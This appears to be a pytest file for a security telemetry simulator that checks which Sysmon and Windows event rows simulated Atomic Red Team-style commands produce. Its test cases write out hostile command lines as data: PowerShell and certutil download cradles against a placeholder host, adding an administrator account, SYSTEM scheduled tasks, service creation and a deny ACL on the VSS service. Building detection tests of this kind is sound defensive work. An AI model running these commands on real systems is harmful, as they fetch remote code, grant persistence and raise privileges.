"""What an atomic's command leaves is what its text says: programs, keys, files, tasks, servers."""

from datetime import UTC, datetime
from pathlib import Path
from random import Random

import pytest

from harness.diagnostics import HarnessError, Source
from harness.scenario.atomic import parse_atomics
from harness.scenario.atomic_library import Library
from harness.scenario.scenario import Launch
from harness.telemetry.simulation.attack import AtomicAttack
from harness.telemetry.simulation.behaviour import load_behaviours
from harness.telemetry.simulation.simulate import ScheduledAction, simulate

ROOT = Path(__file__).parents[4]
SHARED = ROOT.parent / "shared"
START = datetime(2026, 3, 3, 9, 12, tzinfo=UTC)
CMD, PS, ONE = "command_prompt", "powershell", "DWORD (0x00000001)"
TEXT = """attack_technique: T1112
display_name: Something
atomic_tests:
- name: One
  auto_generated_guid: 11111111-2222-3333-4444-555555555555
  description: x
  supported_platforms: [windows]
  input_arguments:
    value: {{description: x, type: string, default: abc}}
  executor:
    name: {shell}
    command: |
{command}
"""


def attack(command, shell, launched=Launch.RUNNER):
    text = TEXT.format(shell=shell, command="\n".join(f"      {row}" for row in command.split("\n")))
    (atomic,) = parse_atomics(Source("a.yaml", text))
    return AtomicAttack(atomic=atomic, launched=launched)


def left(command, shell=CMD, arguments=(), **options):
    """Rows of each kind of event: `sysmon 13` and so on."""
    step = ScheduledAction(
        behaviour="atomic_command", given={"arguments": list(arguments)}, attack=attack(command, shell, **options)
    )
    telemetry = simulate([step], behaviours=load_behaviours(ROOT / "generators"), start=START)
    return {f"{e.sensor} {e.kind}": [{**e.constants, **row} for row in e.columns.to_pylist()] for e in telemetry.events}


def lines(found):
    """Programs and command lines in the order in which they were started."""
    rows = sorted(found["sysmon 1"], key=lambda r: r["UtcTime"])
    return [(r["Image"].rpartition("\\")[2], r["CommandLine"]) for r in rows if "conhost" not in r["Image"]]


def test_each_program_of_a_batch_is_a_process_under_the_prompt():
    found = left('whoami /all & net user "a b"\nipconfig | findstr IPv4')
    assert lines(found) == [
        ("cmd.exe", '"cmd.exe" /c whoami /all & net user "a b" & ipconfig | findstr IPv4'),
        ("whoami.exe", "whoami  /all"),
        ("net.exe", 'net  user "a b"'),
        ("net1.exe", r'C:\Windows\system32\net1 user "a b"'),
        ("ipconfig.exe", "ipconfig"),
        ("findstr.exe", "findstr  IPv4"),
    ]
    parents = {r["ParentImage"] for r in found["sysmon 1"] if r["Image"].endswith("whoami.exe")}
    assert parents == {r"C:\Windows\System32\cmd.exe"}


def test_what_the_prompt_does_itself_is_no_process():
    assert [name for name, _ in lines(left("echo a > %temp%\\a.txt & cd \\ & set x=1 & if exist a echo b"))] == [
        "cmd.exe"
    ]


def test_parentheses_and_semicolons_are_no_commands_of_a_batch():
    assert [name for name, _ in lines(left("sc sdset VSS D:(D;;GA;;;NU)(D;;GA;;;WD)"))] == ["cmd.exe", "sc.exe"]


@pytest.mark.parametrize(
    ("command", "shell", "target", "details"),
    [
        (r'reg add "HKLM\SOFTWARE\X" /v N /t REG_DWORD /d 1 /f', CMD, r"HKLM\SOFTWARE\X\N", ONE),
        (r"reg add HKEY_LOCAL_MACHINE\SOFTWARE\X /ve /d text /f", CMD, r"HKLM\SOFTWARE\X\(Default)", "text"),
        (r"Set-ItemProperty -Path HKLM:\SOFTWARE\X -Name N -Value 1", PS, r"HKLM\SOFTWARE\X\N", ONE),
        (r"New-ItemProperty HKLM:\SOFTWARE\X -Name N -Type String -Value '#{value}'", PS, r"HKLM\SOFTWARE\X\N", "abc"),
    ],
)  # fmt: skip
def test_values_of_the_registry(command, shell, target, details):
    (row,) = left(command, shell)["sysmon 13"]
    assert (row["TargetObject"], row["Details"]) == (target, details)


def test_the_users_hive_is_below_its_sid():
    (row,) = left(r"reg add HKCU\Software\X /v N /d x /f")["sysmon 13"]
    assert row["TargetObject"].startswith("HKU\\S-1-5-21-")
    assert row["TargetObject"].endswith(r"\Software\X\N")


@pytest.mark.parametrize(
    ("command", "shell", "file"),
    [
        (r"echo x > C:\a.txt", CMD, r"C:\a.txt"),
        (r"whoami >> %temp%\a.txt", CMD, r"\AppData\Local\Temp\a.txt"),
        (r"copy C:\Windows\System32\cmd.exe C:\Temp\x.exe", CMD, r"C:\Temp\x.exe"),
        (r"Copy-Item -Path C:\a\b.dll -Destination C:\Temp", PS, r"C:\Temp\b.dll"),
        (r"'x' | Out-File -FilePath $env:PUBLIC\a.ps1", PS, r"C:\Users\Public\a.ps1"),
    ],
)
def test_files(command, shell, file):
    assert any(r["TargetFilename"].endswith(file) for r in left(command, shell)["sysmon 11"])


@pytest.mark.parametrize(
    ("command", "shell", "name", "port"),
    [
        ("curl.exe -o a.zip https://one.example/a.zip", CMD, "one.example", "443"),
        ("certutil -urlcache -split -f http://one.example:8080/a a", CMD, "one.example", "8080"),
        ("IEX (New-Object Net.WebClient).DownloadString('https://one.example/x')", PS, "one.example", "443"),
        ("powershell \"(New-Object Net.WebClient).DownloadString('http://one.example/')\"", CMD, "one.example", "80"),
    ],
)  # fmt: skip
def test_servers_are_looked_up_and_called(command, shell, name, port):
    found = left(command, shell)
    assert [r["QueryName"] for r in found["sysmon 22"]] == [name]
    assert port in {r["DestinationPort"] for r in found["sysmon 3"]}


def test_a_task_is_registered_as_it_is_written():
    found = left(r'schtasks /create /tn "Daily" /tr "cmd.exe /c calc.exe" /sc daily /ru system')
    (row,) = found["windows_security 4698"]
    assert row["TaskName"] == "\\Daily"
    assert "<Command>cmd.exe</Command>" in row["TaskContent"]
    assert "<Arguments>/c calc.exe</Arguments>" in row["TaskContent"]


def test_accounts_and_groups_by_net_and_by_cmdlets():
    found = left("net user eve Passw0rd! /add\nnet localgroup administrators eve /add")
    (made,), (added,) = found["windows_security 4720"], found["windows_security 4732"]
    assert (made["TargetUserName"], added["TargetUserName"]) == ("eve", "administrators")
    assert (added["MemberSid"], added["TargetSid"]) == (made["TargetSid"], "S-1-5-32-544")
    assert [line for _, line in lines(found)][2] == r"C:\Windows\system32\net1 user eve Passw0rd! /add"
    found = left("New-LocalUser -Name eve -NoPassword\nAdd-LocalGroupMember -Group Users -Member eve", PS)
    assert found["windows_security 4722"][0]["TargetUserName"] == "eve"
    assert found["windows_security 4732"][0]["TargetSid"] == "S-1-5-32-545"


@pytest.mark.parametrize(
    ("command", "shell"),
    [
        ('sc create Svc binPath= "C:\\a b.exe" start= auto', CMD),
        ("New-Service -Name Svc -BinaryPathName 'C:\\a b.exe'", PS),
    ],
)
def test_services(command, shell):
    (row,) = left(command, shell)["system_log 7045"]
    assert (row["ServiceName"], row["StartType"]) == ("Svc", "auto start")
    assert row["ImagePath"].replace("\\\\", "\\") == "C:\\a b.exe"


def test_a_script_calls_programs_and_not_its_own_words():
    found = left('$a = @{ U = 1 }\nif ($a) { whoami.exe /all }\nStart-Process notepad.exe -ArgumentList "a.txt"', PS)
    assert [name for name, _ in lines(found)] == ["powershell.exe", "whoami.exe", "notepad.exe"]
    (block,) = found["powershell 4104"]
    assert block["ScriptBlockText"].startswith("& {$a = @{ U = 1 }")


def test_shells_within_shells_run_what_they_are_given():
    found = left('cmd /c "whoami & hostname"')
    assert [name for name, _ in lines(found)][:3] == ["cmd.exe", "cmd.exe", "whoami.exe"]


def test_arguments_are_filled_in():
    assert ("ping.exe", "ping  xyz") in lines(left("ping #{value}", arguments=["value=xyz"]))


def test_without_an_atomic_it_says_so():
    step = ScheduledAction(behaviour="atomic_command")
    with pytest.raises(HarnessError, match="the action names none"):
        simulate([step], behaviours=load_behaviours(ROOT / "generators"), start=START)


@pytest.mark.slow
@pytest.mark.parametrize("launched", list(Launch))
def test_every_windows_test_of_the_library_leaves_its_processes(launched):
    folder = SHARED / "samples" / "dev" / "atomics"
    if not folder.is_dir():
        pytest.skip("the library is not here")
    tests = [
        a for a in Library((folder,)).read()
        if "windows" in a.test.supported_platforms and a.test.executor.name in (PS, CMD)
    ]  # fmt: skip
    assert len(tests) > 1000
    behaviours = load_behaviours(ROOT / "generators")
    for atomic in Random(1).sample(tests, 200):
        step = ScheduledAction(behaviour="atomic_command", attack=AtomicAttack(atomic=atomic, launched=launched))
        kinds = {(e.sensor, e.kind) for e in simulate([step], behaviours=behaviours, start=START).events}
        assert ("sysmon", "1") in kinds, atomic.name
